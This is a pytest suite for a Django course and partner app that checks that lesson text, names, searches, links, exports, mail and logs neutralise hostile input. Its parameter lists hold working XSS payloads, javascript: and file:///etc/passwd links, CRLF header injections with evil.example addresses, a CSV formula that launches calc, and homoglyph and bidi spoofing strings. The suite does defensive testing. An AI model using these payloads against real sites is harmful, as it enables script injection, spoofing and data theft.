"""Texts that want to be more than text: markup, deception, lines of their own, and work without end."""

import csv
import io
import re
import unicodedata
import uuid
from typing import Any

import pytest
from django.urls import reverse

from core import logs
from core.models import OutgoingMail
from core.scope import CLIENT, scoped
from courses.catalog import markdown, richtext
from partners import cleaning
from partners.folding import same
from partners.models import Organisation, Person, Team
from tests.analytics.factories import catch_up
from tests.hostile.people import People, ask
from tests.hostile.test_addresses import APPS, ROOT

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">',
    "<form action=//evil><input name=password>",
    '<base href="//evil.example/">',
    "<style>*{background:url(//evil.example)}</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}${7*7}",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)
DANGEROUS = (
    *("<script>alert", "<img src=x", "<svg/", "<iframe", "<base ", "<form action=//", "<meta http"),
    *(
        '<a href="javascript',
        '<a href="data:',
        "<math",
        "<style>*",
        " onerror=alert(1)>",
        "<noscript><p",
    ),
)


def html_of(node: dict[str, Any]) -> str:
    return str(richtext.render({"type": "doc", "content": [node]}))


@pytest.mark.parametrize("text", MARKUP)
def test_markup_in_a_lesson_is_text(text: str) -> None:
    written = {"type": "paragraph", "content": [{"type": "text", "text": text}]}
    for html in (html_of(written), str(richtext.render(markdown.to_doc(text)))):
        assert not [each for each in DANGEROUS if each in html], html


def test_markup_in_a_name_is_text_on_every_page_that_shows_it(people: People) -> None:
    mine = people.mine
    named = [*mine.people.values(), *people.rival.people.values(), *people.ours.people.values()]
    with scoped(CLIENT):
        for person, text in zip(named, MARKUP, strict=False):
            Person.objects.filter(pk=person.pk).update(family_name=text[:60], territory=text[-60:])
        for text, side in zip(MARKUP, (mine, people.rival), strict=False):
            Organisation.objects.filter(pk=side.organisation.pk).update(name=text)
            Team.objects.filter(organisation=side.organisation).update(name=text)
    pages = (
        *("/people/", "/partners/", "/ranking/", "/progress/", "/team/members/", "/sales/funnel/"),
        *(reverse("partners:person", args=[each.pk]) for each in mine.people.values()),
        reverse("partners:organisation", args=[mine.organisation.pk]),
        f"/assignments/new/?module={people.ours.ids['module_id']}",
    )
    marks = 0
    for page in pages:
        shown = ask(people.browser("admin"), "GET", page).content.decode()
        marks += shown.count("&lt;")
        assert not [each for each in DANGEROUS if each in shown], page
    assert marks > 20


@pytest.mark.parametrize("text", MARKUP)
def test_what_somebody_looked_for_comes_back_as_text(people: People, text: str) -> None:
    for page in (
        "/people/",
        "/learn/find/",
        "/terms/",
        "/authoring/",
        "/authoring/bank/",
        "/partners/",
    ):
        shown = people.browser("admin").get(page, {"q": text}).content.decode()
        assert not [each for each in DANGEROUS if each in shown], page


@pytest.mark.parametrize(
    "href",
    [
        *(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
        ),
        *(
            "data:text/html,x",
            "vbscript:x",
            "//evil.example",
            "\\\\evil.example",
            "file:///etc/passwd",
        ),
        *("\u202ejavascript:x", "blob:x", "http://[", "https://user:pw@evil.example\r\nX: y"),
    ],
)
def test_a_link_leads_to_known_places_or_nowhere(href: str) -> None:
    link = {"type": "link", "attrs": {"href": href}}
    html = html_of(
        {"type": "paragraph", "content": [{"type": "text", "text": "x", "marks": [link]}]}
    )
    assert "script:" not in html.replace("&amp;", "&").lower()
    assert not [
        each for each in ("data:", "//evil", "file:", "blob:", "\r", "\n X") if each in html
    ]


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("\u202egpj.exe", "gpj.exe"),
        ("a\u2066b\u2069c\u200fd", "abcd"),
        ("が".replace("が", "か\u3099"), "が"),
        ("e\u0301", "é"),
        ("Z" + "\u0335" * 200, "Z" + "\u0335" * 3),
        ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),
        ("a\u200bb", "ab"),
        ("a\r\nBcc: b@example.com", "a Bcc: b@example.com"),
        ("\x1b[31mred", "[31mred"),
    ],
)
def test_a_team_s_name_is_kept_without_what_deceives(people: People, typed: str, kept: str) -> None:
    place = people.mine.organisation
    answer = people.browser("admin").post(f"/partners/{place.pk}/teams/new/", {"name": typed})
    assert answer.status_code == 302
    name = place.teams.order_by("-pk").values_list("name", flat=True)[0]
    assert name == kept
    assert unicodedata.is_normalized("NFC", name)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("みらい営業", "みらい 営業"),
        ("ABC商事", "ＡＢＣ商事"),
        ("abc商事", "АВС商事"),
        ("カナリア", "ｶﾅﾘｱ"),
        ("admin", "аdmin"),
        ("ticos", "τісοѕ"),
        ("みらい", "みら\u200dい"),
    ],
)
def test_a_name_that_only_looks_new_is_taken(people: People, one: str, other: str) -> None:
    assert same(one) == same(other)
    browser = people.browser("admin")
    assert browser.post("/partners/new/", {"name": f"{one}株式会社"}).status_code == 302
    answer = browser.post("/partners/new/", {"name": f"{other}株式会社"})
    assert answer.status_code == 422
    assert one in answer.content.decode()


def test_a_name_is_measured_before_it_is_kept(people: People) -> None:
    browser = people.browser("admin")
    for name in ("あ" * 121, "👩\u200d💻" * 60, "x" * 100_000):
        assert browser.post("/partners/new/", {"name": name}).status_code == 422
    assert len(cleaning.name("Z" + "\u0301" * 10_000)) <= 5


def test_lines_in_a_name_make_no_header_of_a_mail(people: People) -> None:
    person = people.mine.people["rep"]
    with scoped(CLIENT):
        Person.objects.filter(pk=person.pk).update(family_name="田中\r\nBcc: x@evil.example")
        Organisation.objects.filter(pk=people.mine.organisation.pk).update(
            name="A\r\nBcc: y@evil.example"
        )
    people.browser("admin").post(f"/people/{person.pk}/invite/", {"key": str(uuid.uuid4())})
    people.browser().post("/accounts/link/", {"login": person.email})
    found = list(OutgoingMail.objects.order_by("-created_at")[:2])
    assert found
    for mail in found:
        assert not set("\r\n") & set(mail.subject)
        assert not set("\r\n") & set(mail.recipient)


@pytest.mark.parametrize(
    "name", ['a"; filename="b.html', "a\r\nX-Evil: 1", "../../etc/passwd", "\u202egpj.exe"]
)
def test_a_name_makes_no_header_of_a_file(people: People, name: str) -> None:
    with scoped(CLIENT):
        Organisation.objects.filter(pk=people.mine.organisation.pk).update(name=name)
    admin, place = people.browser("admin"), people.mine.organisation.pk
    for url in (
        f"/progress/companies/{place}/members.csv",
        "/progress/companies.csv",
        "/record/points.csv",
    ):
        answer = ask(admin, "GET", url)
        assert answer.status_code == 200
        assert "X-Evil" not in answer.headers
        said = answer["Content-Disposition"]
        assert said.startswith("attachment")
        assert not [each for each in ("..", "\r", "\n", "\u202e", ".html") if each in said]


def test_no_export_holds_a_formula(people: People) -> None:
    with scoped(CLIENT):
        Organisation.objects.filter(pk=people.mine.organisation.pk).update(
            name="＝cmd|'/C calc'!A1"
        )
        Person.objects.filter(pk=people.mine.people["rep"].pk).update(family_name="=1+1")
        catch_up()
    admin, place = people.browser("admin"), people.mine.organisation.pk
    found = set()
    for url in ("/progress/companies.csv", f"/progress/companies/{place}/members.csv"):
        text = ask(admin, "GET", url).whole.decode("utf-8-sig")
        found |= {cell[:2] for row in csv.reader(io.StringIO(text)) for cell in row}
    assert {"'＝", "'="} <= found
    assert not {cell for cell in found if cell[:1] in {"=", "＝"}}


def test_only_what_escapes_formulas_writes_tables() -> None:
    writers = {
        str(file.relative_to(ROOT))
        for app in APPS
        for file in (ROOT / app).rglob("*.py")
        if re.search(r"csv\.writer|xlsxwriter\.", file.read_text(encoding="utf-8"))
    }
    into_a_field = {"courses/authoring/scenarios/pasting.py"}
    assert writers == {"core/tables/writing.py", "gamification/export.py"} | into_a_field


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("稟議", "稟議"),
        ("a\nlevel=error", "a\\nlevel=error"),
        ("\x1b[31mred", "\\x1b[31mred"),
        ("\u202eabc", "\\u202eabc"),
        ("a\x00b", "a\\x00b"),
        ("x" * 5000, "x" * 200 + "…"),
        ("\n" * 5000, "\\n" * 100 + "…"),
    ],
)
def test_a_log_holds_no_lines_of_others(text: str, shown: str) -> None:
    assert logs.shown(text) == shown
    assert logs.bounded(None, "", {"event": text, "n": 1}) == {"event": shown, "n": 1}
